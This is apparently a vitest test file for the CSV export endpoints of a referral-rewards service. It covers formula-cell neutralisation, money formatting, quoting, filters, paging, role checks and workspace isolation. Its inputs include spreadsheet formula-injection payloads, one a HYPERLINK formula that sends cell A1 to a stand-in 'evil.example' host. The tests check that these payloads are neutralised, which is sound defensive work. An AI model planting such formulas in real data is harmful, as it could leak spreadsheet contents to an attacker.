import { parse } from 'csv-parse/sync';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { decimalAmount, neutraliseCell } from '../src/exports/export.core.js';
import { exportRecords } from '../src/exports/export.service.js';
import { json, newClaim, newParticipant, startTestApp, type TestApp } from './support/app.js';

function rowsOf(body: string): Record<string, string>[] {
  return parse(body, { columns: true, skip_empty_lines: true });
}

describe('neutraliseCell and decimalAmount', () => {
  it.each([
    ['=HYPERLINK("http://evil")', `'=HYPERLINK("http://evil")`],
    ['+1 415 555 0142', `'+1 415 555 0142`],
    ['-2+3', `'-2+3`],
    ['@SUM(A1)', `'@SUM(A1)`],
    ['\t=1', `'\t=1`],
    ['\r=1', `'\r=1`],
    ['Jessica Alvarez', 'Jessica Alvarez'],
    ['a=b', 'a=b'],
    ['', ''],
  ])('neutralises %j as %j', (input, output) => {
    expect(neutraliseCell(input)).toBe(output);
  });

  it.each([
    [2500, 'USD', '25.00'], // $25.00
    [5, 'USD', '0.05'],
    [-150, 'EUR', '-1.50'],
    [1500, 'JPY', '1500'],
    [1234567, 'KWD', '1234.567'],
    [1_000_000_000_000, 'USD', '10000000000.00'],
  ])('writes %i minor units of %s as %s', (minor, currency, decimal) => {
    expect(decimalAmount(minor, currency)).toBe(decimal);
  });
});

describe('CSV exports', () => {
  let t: TestApp;
  let first: Awaited<ReturnType<typeof newClaim>>;
  beforeAll(async () => {
    t = await startTestApp();
    first = await newClaim(t.owner, {
      referrer: { name: '=HYPERLINK("http://evil.example/?"&A1,"Click")', email: 'evil@example.com' },
      conversion: { amount: 123_456 },
    });
    t.clock.advance(60_000);
    await newClaim(t.owner, { referrer: { name: 'Smith, "Jo"\nSecond line' } });
    t.clock.advance(60_000);
    const third = await newClaim(t.owner);
    json(await (await t.as('finance')).post(`/v1/rewards/${third.reward.id}/approve`, {}), 200);
  });
  afterAll(() => t.close());

  it('exports rewards with RFC 4180 quoting, money twice, and formula cells neutralised', async () => {
    const response = await t.owner.get('/v1/exports/rewards.csv');
    expect(response.statusCode).toBe(200);
    expect(response.headers['content-type']).toBe('text/csv; charset=utf-8');
    expect(response.headers['content-disposition']).toBe('attachment; filename="rewards.csv"');
    expect(response.headers['x-export-rows']).toBe('3');
    expect(response.body).toContain('\r\n');
    const rows = rowsOf(response.body);
    expect(rows).toHaveLength(3);
    const [evil, quoted] = rows;
    expect(evil?.id).toBe(first.reward.id);
    expect(evil?.referrerName).toBe(`'=HYPERLINK("http://evil.example/?"&A1,"Click")`);
    expect(quoted?.referrerName).toBe('Smith, "Jo"\nSecond line');
    expect(Number(evil?.amountMinor)).toBe(first.reward.amount);
    expect(evil?.amount).toBe(decimalAmount(first.reward.amount, first.reward.currency));
    expect(evil?.currency).toBe('USD');
    expect(evil?.createdAt).toBe(first.reward.createdAt);
  });

  it('filters by status and by time (from inclusive, to exclusive)', async () => {
    const pending = rowsOf((await t.owner.get('/v1/exports/rewards.csv?status=pending')).body);
    expect(pending.map((row) => row.status)).toEqual(['pending']);
    const both = rowsOf((await t.owner.get('/v1/exports/rewards.csv?status=pending,in_review')).body);
    expect(both).toHaveLength(3);
    const from = new Date(Date.parse(first.reward.createdAt) + 60_000).toISOString();
    const to = new Date(Date.parse(first.reward.createdAt) + 120_000).toISOString();
    const window = rowsOf((await t.owner.get(`/v1/exports/rewards.csv?from=${from}&to=${to}`)).body);
    expect(window.map((row) => row.createdAt)).toEqual([from]);
    const bad = await t.owner.get('/v1/exports/rewards.csv?status=paid');
    expect(bad.statusCode).toBe(400);
    expect((await t.owner.get('/v1/exports/rewards.csv?from=yesterday')).statusCode).toBe(400);
  });

  it('exports participants, conversions and the audit log', async () => {
    const participants = rowsOf((await t.owner.get('/v1/exports/participants.csv')).body);
    expect(participants).toHaveLength(6);
    expect(participants.some((row) => row.email === 'evil@example.com')).toBe(true);
    const conversions = rowsOf((await t.owner.get('/v1/exports/conversions.csv')).body);
    expect(conversions).toHaveLength(3);
    expect(conversions[0]).toMatchObject({
      amountMinor: '123456',
      amount: '1234.56',
      currency: 'USD',
      type: 'deal_won',
    });
    const audit = rowsOf((await t.owner.get('/v1/exports/audit-events.csv')).body);
    expect(audit.map((row) => row.action)).toContain('reward.approved');
    const approved = audit.find((row) => row.action === 'reward.approved');
    expect(JSON.parse(approved?.after ?? '{}')).toMatchObject({ status: 'pending' });
  });

  it('pages through the rows by keyset, whatever the page size', async () => {
    for (let i = 0; i < 5; i++) await newParticipant(t.owner, { name: `Paged ${i}` });
    const all: (string | number)[][] = [];
    for await (const record of exportRecords(t.database.db, 'participants', t.workspaceId, {}, 2)) all.push(record);
    const whole = rowsOf((await t.owner.get('/v1/exports/participants.csv')).body);
    expect(all.map((record) => record[0])).toEqual(whole.map((row) => row.id));
    expect(new Set(all.map((record) => record[0])).size).toBe(all.length);
  });

  it('is for finance and the owner only', async () => {
    const finance = await t.as('finance');
    expect((await finance.get('/v1/exports/participants.csv')).statusCode).toBe(200);
    for (const role of ['staff', 'viewer'] as const) {
      const api = await t.as(role);
      expect((await api.get('/v1/exports/rewards.csv')).statusCode, role).toBe(403);
    }
  });

  it("never shows another workspace's rows", async () => {
    const other = await t.otherWorkspace();
    for (const kind of ['rewards', 'participants', 'conversions']) {
      const response = await other.get(`/v1/exports/${kind}.csv`);
      expect(response.statusCode).toBe(200);
      expect(rowsOf(response.body), kind).toEqual([]);
    }
  });
});
